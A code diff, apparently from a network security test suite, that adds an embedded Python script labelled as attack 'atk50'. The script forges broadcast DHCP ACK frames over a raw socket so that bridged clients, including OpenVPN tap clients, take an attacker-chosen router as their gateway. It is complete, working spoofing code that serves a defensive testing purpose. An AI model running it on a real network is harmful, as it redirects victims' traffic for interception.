@@ -104,6 +104,37 @@ while True:
 """
 
 
+# A host on a bridged LAN forging DHCP ACKs (atk50): broadcast frames, from port 67 to port 68,
+# each with a fresh transaction id and client hardware address (so no DHCP client takes one as
+# its own), naming ROUTER as the router. Every bridged tap client's data path reads them as any
+# ACK (OpenVPN 2.6's route-gateway dhcp does too). Argv: interface, router, server id, interval
+# (s), count -- bounded, and the test kills it by PID anyway.
+FORGED_DHCP_ACKS = r"""
+import os, socket, struct, sys, time
+ifname, router, server, every, count = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4]), int(sys.argv[5])
+a = socket.inet_aton
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+s.bind((ifname, 0))
+def csum(b):
+    n = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+    while n >> 16:
+        n = (n & 0xFFFF) + (n >> 16)
+    return ~n & 0xFFFF
+for i in range(count):
+    mac = bytes([2]) + os.urandom(5)
+    opts = (bytes([53, 1, 5, 54, 4]) + a(server) + bytes([51, 4]) + struct.pack("!I", 3600)
+            + bytes([1, 4]) + a("255.255.255.0") + bytes([3, 4]) + a(router) + bytes([255]))
+    bootp = (bytes([2, 1, 6, 0]) + os.urandom(4) + struct.pack("!HH", 0, 0x8000) + bytes(4) + a("198.19.1.200")
+             + bytes(8) + mac + bytes(10) + bytes(192) + bytes([99, 130, 83, 99]) + opts)
+    bootp += bytes(300 - len(bootp)) if len(bootp) < 300 else b""
+    udp = struct.pack("!HHHH", 67, 68, 8 + len(bootp), 0) + bootp
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), i & 0xFFFF, 0, 64, 17, 0, a(server), a("255.255.255.255"))
+    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+    s.send(b"\xff" * 6 + mac + b"\x08\x00" + ip + udp)
+    time.sleep(every)
+print("sent", count, flush=True)
+"""
+
 def run_py(ns: Netns, code: str, *args, timeout: float = 120) -> str:
     """Run a Python snippet in a namespace, to its end."""
     r = subprocess.run(["ip", "netns", "exec", ns.name, sys.executable, "-c", code, *map(str, args)],
